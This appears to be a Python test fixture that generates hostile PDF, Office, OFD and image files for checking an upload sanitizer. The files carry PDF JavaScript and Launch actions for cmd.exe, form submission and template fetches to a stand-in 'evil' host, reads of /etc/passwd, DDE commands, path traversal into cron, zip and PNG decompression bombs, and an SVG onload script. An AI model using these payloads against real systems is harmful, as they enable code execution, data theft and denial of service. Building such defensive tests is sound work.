"""Forty hostile files, each made when it is asked for, and what becomes of each: refused, or defused."""

import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from io import BytesIO

import pikepdf
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

Build = Callable[[], bytes]
HARM = (
    b"/JavaScript",
    b"/Launch",
    b"/EmbeddedFile",
    b"/SubmitForm",
    b"/RichMedia",
    b"/XFA",
    b"/GoToE",
    b"EICAR",
)


@dataclass(frozen=True, slots=True)
class Hostile:
    """A file as somebody would send it; *defused* ones are taken, without what was in them."""

    name: str
    build: Build
    defused: bool = False


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **save: object) -> bytes:
    """A page, and what *change* puts into the document."""
    document = pikepdf.new()
    document.add_blank_page()
    if change:
        change(document)
    out = BytesIO()
    document.save(out, **save)
    return out.getvalue()


def _action(kind: str, **more: object) -> Dictionary:
    return Dictionary(S=Name(f"/{kind}"), **more)


SCRIPT = _action("JavaScript", JS=String("app.alert(1)"))


def _opens(action: Dictionary) -> Build:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = action

    return lambda: pdf(change)


def _on_page(document: pikepdf.Pdf) -> None:
    document.pages[0].obj.AA = Dictionary(O=SCRIPT)


def _named(document: pikepdf.Pdf) -> None:
    document.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), SCRIPT])))


def _chained(document: pikepdf.Pdf) -> None:
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]))
    link.A = Dictionary(S=Name.URI, URI=String("https://example.com/"), Next=SCRIPT)
    document.pages[0].obj.Annots = Array([document.make_indirect(link)])


def _embedded(document: pikepdf.Pdf) -> None:
    document.attachments["a.exe"] = b"MZ EICAR"


def _annotation(kind: str) -> Build:
    def change(document: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name(f"/{kind}"), Rect=Array([0, 0, 9, 9]))
        note.FS = Dictionary(EF=Dictionary(F=Stream(document, b"MZ EICAR", Type=Name.EmbeddedFile)))
        document.pages[0].obj.Annots = Array([document.make_indirect(note)])

    return lambda: pdf(change)


def _form(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=Stream(document, b"<xdp/>"))


def _pages(document: pikepdf.Pdf) -> None:
    document.Root.Pages.Kids = Array([document.pages[0].obj] * 3_000)
    document.Root.Pages.Count = 3_000


def _deep(document: pikepdf.Pdf) -> None:
    inner: Array | Dictionary = Array([])
    for _ in range(300):
        inner = Array([inner])
    document.Root.Deep = inner


def _stream_bomb() -> bytes:
    """A stream of objects that unpacks to 160 MB, twice packed."""
    packed = zlib.compress(zlib.compress(b"0 " * 80_000_000, 1), 9)
    head = b"/Type/ObjStm/N 1/First 4/Filter[/FlateDecode/FlateDecode]"
    page = b"%%PDF-1.5\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    body = page + b"4 0 obj<<%s/Length %d>>stream\n%s\nendstream\nendobj\n"
    return body % (head, len(packed), packed) + b"xref\n0 1\ntrailer<</Root 1 0 R>>\n%%EOF\n"


def archive(entries: Iterable[tuple[str, bytes]], heart: str = "word/document.xml") -> bytes:
    """A zip of *entries* that looks like an Office file or an OFD."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        names = {name for name, _ in entries}
        for name in ("[Content_Types].xml", heart):
            if name not in names:
                made.writestr(name, b"<a/>")
        for name, data in entries:
            made.writestr(name, data)
    return out.getvalue()


def _with(*entries: tuple[str, bytes], heart: str = "word/document.xml") -> Build:
    return lambda: archive(entries, heart)


def _zip_bomb() -> bytes:
    return archive([(f"word/{number}.xml", b"\0" * 30_000_000) for number in range(4)])


def _lying() -> bytes:
    """Its list says that an entry is small; it is not."""
    made = bytearray(archive([("word/a.xml", b"\0" * 5_000_000)]))
    for start in range(len(made) - 4):
        if made[start : start + 4] == b"PK\x01\x02" and made[start + 46 : start + 56] == b"word/a.xml":
            made[start + 24 : start + 28] = struct.pack("<I", 10)
    return bytes(made)


def _overlapping() -> bytes:
    """Two entries of the list share the bytes of one."""
    made = archive([("word/a.xml", b"\0" * 50_000), ("word/b.xml", b"\0" * 50_000)])
    first = made.index(b"PK\x03\x04", made.index(b"word/a.xml") - 31)
    listed = made.rindex(b"word/b.xml")
    changed = bytearray(made)
    changed[listed - 4 : listed] = struct.pack("<I", first)
    return bytes(changed)


def _locked() -> bytes:
    made = bytearray(archive([("word/a.xml", b"a")]))
    start = made.rindex(b"PK\x01\x02")
    made[start + 8] |= 1
    return bytes(made)


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30)) -> bytes:
    """A small picture."""
    out = BytesIO()
    Image.new("RGB", size, "white").save(out, kind)
    return out.getvalue()


def _huge_png() -> bytes:
    """A few bytes that say that they are 60,000 × 60,000."""
    made = bytearray(picture())
    made[16:24] = struct.pack(">II", 60_000, 60_000)
    made[29:33] = struct.pack(">I", zlib.crc32(bytes(made[12:29])))
    return bytes(made)


def _text_bomb() -> bytes:
    chunk = b"zTXt" + b"a\0\0" + zlib.compress(b"a" * 30_000_000, 9)
    made = picture()
    return (
        made[:33]
        + struct.pack(">I", len(chunk) - 4)
        + chunk
        + struct.pack(">I", zlib.crc32(chunk))
        + made[33:]
    )


def _animated() -> bytes:
    out = BytesIO()
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "blue")]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


LAUGHS = b'<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
FETCH = b'<Relationship Type="http://x/attachedTemplate" Target="http://evil/" TargetMode="External"/>'
PAGE = b"<html><script>alert(1)</script></html>"

OWNED, LOCKED = pikepdf.Encryption(owner="x", user=""), pikepdf.Encryption(owner="x", user="y")
MACRO_TYPE = b"<a t='application/vnd.ms-word.document.macroEnabled'/>"
FILES = (
    Hostile("脚本.pdf", _opens(SCRIPT), defused=True),
    Hostile("启动.pdf", _opens(_action("Launch", F=String("cmd.exe"))), defused=True),
    Hostile("寄表.pdf", _opens(_action("SubmitForm", F=String("http://evil/"))), defused=True),
    Hostile("导入.pdf", _opens(_action("ImportData", F=String("/etc/passwd"))), defused=True),
    Hostile("跳出.pdf", _opens(_action("GoToE", F=String("a.pdf"))), defused=True),
    Hostile("翻页脚本.pdf", lambda: pdf(_on_page), defused=True),
    Hostile("命名脚本.pdf", lambda: pdf(_named), defused=True),
    Hostile("连环脚本.pdf", lambda: pdf(_chained), defused=True),
    Hostile("夹带.pdf", lambda: pdf(_embedded), defused=True),
    Hostile("附件批注.pdf", _annotation("FileAttachment"), defused=True),
    Hostile("富媒体.pdf", _annotation("RichMedia"), defused=True),
    Hostile("动态表单.pdf", lambda: pdf(_form), defused=True),
    Hostile("空口令.pdf", lambda: pdf(_named, encryption=OWNED), defused=True),
    Hostile("口令.pdf", lambda: pdf(encryption=LOCKED)),
    Hostile("三千页.pdf", lambda: pdf(_pages)),
    Hostile("太深.pdf", lambda: pdf(_deep)),
    Hostile("炸弹.pdf", _stream_bomb),
    Hostile("半截.pdf", lambda: pdf()[:60]),
    Hostile("网页.pdf", lambda: PAGE),
    Hostile("程序.pdf", lambda: b"MZ" + b"\0" * 200),
    Hostile("炸弹.docx", _zip_bomb),
    Hostile("谎报.docx", _lying),
    Hostile("重叠.docx", _overlapping),
    Hostile("口令.docx", _locked),
    Hostile("宏.docx", _with(("word/vbaProject.bin", b"macro"))),
    Hostile("改名的宏.docx", _with(("[Content_Types].xml", MACRO_TYPE))),
    Hostile("嵌入.docx", _with(("word/embeddings/a.bin", b"MZ"))),
    Hostile("外链模板.docx", _with(("word/_rels/settings.xml.rels", FETCH))),
    Hostile("实体.docx", _with(("word/document.xml", LAUGHS))),
    Hostile("动态交换.docx", _with(("word/document.xml", b"<w:instrText>DDEAUTO cmd</w:instrText>"))),
    Hostile("越界.docx", _with(("../../etc/cron.d/a", b"a"))),
    Hostile("三千件.docx", _with(*((f"word/{number}", b"") for number in range(3_000)))),
    Hostile("空壳.xlsx", _with(("a.txt", b"a"))),
    Hostile("交换.xlsx", _with(("xl/externalLinks/a.xml", b"<ddeLink a='cmd'/>"), heart="xl/workbook.xml")),
    Hostile("压缩包.ofd", _with(("a.zip", b"PK"), heart="OFD.xml")),
    Hostile("巨幅.png", _huge_png),
    Hostile("文字炸弹.png", _text_bomb),
    Hostile("动画.png", _animated),
    Hostile("半截.jpg", lambda: picture("JPEG", (900, 900))[:400]),
    Hostile("图.svg", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    Hostile("页.html", lambda: PAGE),
    Hostile("程序.exe", lambda: b"MZ"),
)  # fmt: skip
